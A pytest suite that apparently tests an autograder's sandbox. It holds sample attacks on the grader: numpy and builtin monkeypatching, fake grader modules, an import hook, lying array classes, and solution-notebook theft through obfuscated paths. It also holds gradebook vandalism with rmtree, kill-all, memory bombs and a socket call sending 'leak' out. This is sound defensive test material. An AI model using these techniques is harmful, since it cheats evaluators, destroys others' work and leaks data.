"""The adversarial suite: one submission per attack, graded together with honest students.

Each attacker's notebook is the reference solution except for the attacked function(s), so the
exact per-test scores are known in advance: the attacked test scores 0 (or full marks where the
attack is only against the machine), every other test of the attacker keeps its points, the
honest students keep 12/12, and no file outside the sandbox's scratch area changes.
"""
import socket
import threading
import textwrap

import pytest

from course_factory import FULL, REPO, make_course, scores, tasks_for, tree_hashes
from autograder.pipeline import grade_all

pytestmark = pytest.mark.timeout(600)

WRONG = {  # plausible wrong answers with the right shapes
    "linear_backward": "def linear_backward(dout, x, W):\n    return np.zeros_like(x), np.zeros_like(W), np.zeros(W.shape[0])\n",
    "sigmoid_backward": "def sigmoid_backward(dout, z):\n    return dout * 0.25\n",
    "tanh_backward": "def tanh_backward(dout, z):\n    return dout.copy()\n",
    "relu_backward": "def relu_backward(dout, z):\n    return dout * (z >= 0)\n",
}

ATTACKS = {
    # monkeypatching numpy's comparison functions the grader might use
    "monkeypatch_numpy": ({"linear_backward": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
""" + WRONG["linear_backward"]}, {"linear_backward": 0}),
    # replacing the grader's and coursekit's modules by permissive fakes
    "patch_grader_modules": ({"tanh_backward": """
import sys, types
for name in ["autograder", "autograder.checks", "autograder.checks.base", "autograder.checks.backprop",
             "autograder.checks.inkernel", "autograder.sandbox", "autograder.pipeline",
             "coursekit", "coursekit.gradcheck", "coursekit.functional"]:
    m = types.ModuleType(name)
    m.assert_passes = lambda *a, **k: None
    m.self_check = lambda *a, **k: None
    m.rel_error = lambda *a, **k: 0.0
    m.judge = lambda *a, **k: True
    sys.modules[name] = m
import builtins
builtins.abs = lambda x: 0
builtins.max = lambda *a, **k: 0
builtins.all = lambda *a, **k: True
""" + WRONG["tanh_backward"]}, {"tanh_backward": 0}),
    # an import hook that answers every import of the grader with a fake
    "import_hook": ({"sigmoid_backward": """
import sys, types, builtins, importlib.abc, importlib.machinery
class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] in ("autograder", "coursekit", "pytest"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        m = types.ModuleType(spec.name)
        m.__path__ = []
        m.assert_passes = lambda *a, **k: None
        return m
    def exec_module(self, module):
        pass
sys.meta_path.insert(0, Fake())
_real_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _real_import(name, *a, **k)
""" + WRONG["sigmoid_backward"]}, {"sigmoid_backward": 0}),
    # an ndarray subclass that lies in every comparison and arithmetic
    "lying_subclass": ({"relu_backward": """
import numpy as np
class Liar(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return np.zeros(np.shape(self))
    def __rsub__(self, other): return np.zeros(np.shape(self))
    def __abs__(self): return np.zeros(np.shape(self))
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.broadcast_shapes(*[np.shape(i) for i in inputs]))
    def __array_function__(self, func, types, args, kwargs): return True
    @property
    def T(self): return self
def relu_backward(dout, z):
    return np.asarray(dout * (z >= 0)).view(Liar)
"""}, {"relu_backward": 0}),
    # objects whose __eq__/__float__/__array__ lie
    "lying_objects": ({"softmax_cross_entropy": """
import numpy as np
class LyingFloat(float):
    def __eq__(self, other): return True
    def __float__(self): return 1.2345
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __lt__(self, other): return True
    def __le__(self, other): return True
class LyingArrayLike:
    def __init__(self, shape): self.shape = shape
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)
    def __sub__(self, other): return np.zeros(self.shape)
def softmax_cross_entropy(logits, y):
    return LyingFloat(0.0), LyingArrayLike(np.shape(logits))
""", "mlp_loss_and_grads": """
import numpy as np
class LyingDict(dict):
    def __eq__(self, other): return True
    def __getitem__(self, k): return np.zeros(3)
def mlp_loss_and_grads(params, x, y):
    return 0.0, LyingDict({k: np.zeros_like(v) for k, v in params.items()})
"""}, {"softmax_cross_entropy": 0, "mlp_loss_and_grads": 0}),
    # tampering with the traceback display (IPython's and plain Python's)
    "ipython_tamper": ({"relu_backward": """
import sys, traceback
sys.excepthook = lambda *a: None
traceback.format_exception = lambda *a, **k: ["all tests passed"]
traceback.print_exc = lambda *a, **k: None
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = lambda *a, **k: None
    InteractiveShell._showtraceback = lambda *a, **k: None
except Exception:
    pass
def get_ipython():
    class S:
        def showtraceback(self, *a, **k): pass
    return S()
""" + WRONG["relu_backward"]}, {"relu_backward": 0}),
    # reading the instructor's source notebook and running its solution (plain path: also flagged)
    "read_solutions": ({"linear_backward": """
import json, numpy as np
def _steal(name):
    for path in ["{course}/source/backprop/backprop.ipynb", "{repo}/solutions/backprop/backprop.ipynb"]:
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        ns = {"np": np}
        for c in nb["cells"]:
            src = "".join(c["source"])
            if ("def " + name) in src:
                exec(src, ns)
                return ns[name]
    return None
_stolen = _steal("linear_backward")
def linear_backward(dout, x, W):
    if _stolen is not None:
        return _stolen(dout, x, W)
    return np.zeros_like(x), np.zeros_like(W), np.zeros(W.shape[0])
"""}, {"linear_backward": 0}),
    # importing the course's reference kernels
    "import_reference": ({"softmax_backward": "from coursekit.functional import softmax_backward\n"},
                         {"softmax_backward": 0}),
    # the same, hidden from a static scan: a computed module name and sys.path entry
    "import_reference_hidden": ({"tanh_backward": """
import sys, importlib, numpy as np
sys.path.insert(0, "".join(chr(c) for c in {repo_codes}))
def tanh_backward(dout, z):
    m = importlib.import_module("".join(chr(c) for c in [99, 111, 117, 114, 115, 101, 107, 105, 116]) + ".functional")
    return m.tanh_backward(dout, z)
"""}, {"tanh_backward": 0}),
    "os_exit": ({"sigmoid_backward": "import os\ndef sigmoid_backward(dout, z):\n    os._exit(0)\n"},
                {"sigmoid_backward": 0}),
    "sigkill_self": ({"tanh_backward": "import os, signal\ndef tanh_backward(dout, z):\n    os.kill(os.getpid(), signal.SIGKILL)\n"},
                     {"tanh_backward": 0}),
    "infinite_loop": ({"relu_backward": "def relu_backward(dout, z):\n    while True:\n        pass\n"},
                      {"relu_backward": 0}),
    "memory_bomb": ({"softmax_backward": """
import numpy as np
def softmax_backward(dout, z):
    blocks = []
    while True:
        blocks.append(np.ones(1 << 27))  # 1 GiB each, forever
""", "linear_backward": "def linear_backward(dout, x, W):\n    return bytearray(8 << 30)\n"},
                    {"softmax_backward": 0, "linear_backward": 0}),
    # endless output floods: the endless loop costs the points (time limit), never the output
    "output_flood": ({"linear_backward": "def linear_backward(dout, x, W):\n    while True:\n        print('spam ' * 1000)\n",
                      "sigmoid_backward": "import os\ndef sigmoid_backward(dout, z):\n    while True:\n        os.write(1, b'x' * 65536)\n"},
                     {"linear_backward": 0, "sigmoid_backward": 0}),
}

# attacks that are only safe to run (and only blocked) with filesystem/network isolation
ISOLATED_ATTACKS = {
    # reading other students' files and the source notebook through paths a scan cannot see
    "read_hidden_paths": ({"linear_backward": """
import json, os, numpy as np
_base = "".join(chr(c) for c in {course_codes})
def _steal(name):
    for root, dirs, files in os.walk(_base):
        for f in files:
            if f.endswith(".ipynb"):
                try:
                    nb = json.load(open(os.path.join(root, f)))
                except Exception:
                    continue
                for c in nb["cells"]:
                    src = "".join(c["source"])
                    if ("def " + name) in src and "NotImplementedError" not in src:
                        ns = {"np": np}
                        exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), ns)
                        return ns[name]
    return None
def linear_backward(dout, x, W):
    f = _steal("linear_backward")
    if f is None:
        return np.zeros_like(x), np.zeros_like(W), np.zeros(W.shape[0])
    return f(dout, x, W)
"""}, {"linear_backward": 0}),
    # deleting/overwriting the gradebook, other students' submissions and the release
    "vandal": ({"tanh_backward": """
import os, shutil, numpy as np
_base = "".join(chr(c) for c in {course_codes})
def _vandalise():
    for p in ["gradebook.db", "release/backprop/backprop.ipynb", "submitted/alice/backprop/backprop.ipynb"]:
        try:
            open(os.path.join(_base, p), "w").write("pwned")
        except Exception:
            pass
    for p in ["submitted/zed", "source"]:
        shutil.rmtree(os.path.join(_base, p), ignore_errors=True)
    try:
        open(os.path.join(_base, "new_file.txt"), "w").write("x")
    except Exception:
        pass
_vandalise()
def tanh_backward(dout, z):
    _vandalise()
    t = np.tanh(z)
    return dout * (1.0 - t * t)
"""}, {}),
    # network: try the grader's host (a listener in this test) and the internet
    "network": ({"softmax_cross_entropy": """
import socket, numpy as np
def _phone_home():
    for addr in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
        try:
            s = socket.create_connection(addr, timeout=1.0)
            s.sendall(b"leak")
            s.close()
        except Exception:
            pass
_phone_home()
def softmax_cross_entropy(logits, y):
    _phone_home()
    n = logits.shape[0]
    shifted = logits - logits.max(axis=1, keepdims=True)
    logp = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
    d = np.exp(logp)
    d[np.arange(n), y] -= 1.0
    return float(-logp[np.arange(n), y].mean()), d / n
"""}, {}),
    # kill every process it can see (only itself, in its own pid namespace)
    "kill_everything": ({"relu_backward": "import os, signal\ndef relu_backward(dout, z):\n    os.kill(-1, signal.SIGKILL)\n"},
                        {"relu_backward": 0}),
}

HONEST = ["alice", "zed"]


def _codes(s):
    return "[" + ", ".join(str(ord(c)) for c in s) + "]"


def _fill(attacks, course, port):
    out = {}
    for name, (replace, zeros) in attacks.items():
        subs = {"{course}": str(course), "{repo}": str(REPO), "{repo_codes}": _codes(str(REPO)),
                "{course_codes}": _codes(str(course)), "{port}": str(port)}
        rep = {}
        for f, src in replace.items():
            src = textwrap.dedent(src)
            for k, v in subs.items():
                src = src.replace(k, v)
            rep[f] = src
        out[name] = (rep, zeros)
    return out


def _grade(tmp_path, attacks, workers=2, limits=None):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    connections = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
                connections.append(conn.recv(16))
                conn.close()
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    course_path = tmp_path / "course"
    filled = _fill(attacks, course_path, port)
    students = {n: {} for n in HONEST}
    students.update({n: rep for n, (rep, _) in filled.items()})
    course = make_course(tmp_path, students)
    before = tree_hashes(course)
    records = grade_all(tasks_for(course), workers=workers, progress=False, limits=limits)
    after = tree_hashes(course)
    stop.set()
    thread.join(2)
    listener.close()
    return {r.student: r for r in records}, filled, (before, after), connections


@pytest.fixture(scope="module")
def graded(tmp_path_factory, limits, isolation):
    return _grade(tmp_path_factory.mktemp("adv"), ATTACKS, limits=limits)


def _expected(zeros):
    exp = dict(FULL)
    exp.update({f: 0.0 for f in zeros})
    return exp


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_scores_exactly(graded, attack):
    records, filled, _, _ = graded
    rec = records[attack]
    assert rec.status == "graded", rec.reason
    assert scores(rec) == _expected(filled[attack][1]), [o.messages for o in rec.outcomes if not o.passed]


def test_honest_students_unaffected(graded):
    records = graded[0]
    for name in HONEST:
        assert records[name].status == "graded"
        assert scores(records[name]) == FULL
        assert not records[name].flags


def test_every_record_present_once(graded):
    records = graded[0]
    assert sorted(records) == sorted(HONEST + list(ATTACKS))


def test_no_file_outside_scratch_changed(graded):
    _, _, (before, after), _ = graded
    assert len(before) > 10
    assert before == after


def test_reference_use_is_flagged(graded):
    records = graded[0]
    for name, fn in [("import_reference", "softmax_backward"), ("read_solutions", "linear_backward")]:
        out = {o.function: o for o in records[name].outcomes}[fn]
        assert "reference-implementation" in out.flags, out
        assert "reference-implementation" in records[name].flags


def test_limits_are_flagged(graded):
    records = graded[0]
    assert "timeout" in records["infinite_loop"].flags
    assert "memory" in records["memory_bomb"].flags
    # an endless flood loses its points to the time limit; the output itself costs nothing
    assert "timeout" in records["output_flood"].flags and "output-limit" not in records["output_flood"].flags
    assert "crashed" in records["os_exit"].flags and "crashed" in records["sigkill_self"].flags


def test_isolated_attacks(tmp_path, limits, isolated):
    records, filled, (before, after), connections = _grade(
        tmp_path, ISOLATED_ATTACKS, limits=limits)
    for attack, (_, zeros) in filled.items():
        assert records[attack].status == "graded", records[attack].reason
        assert scores(records[attack]) == _expected(zeros), attack
        assert "reference-implementation" not in records[attack].flags  # nothing a scan could see
    for name in HONEST:
        assert scores(records[name]) == FULL
    assert before == after, "a file outside the scratch area changed"
    assert connections == [], "the sandbox reached the network"
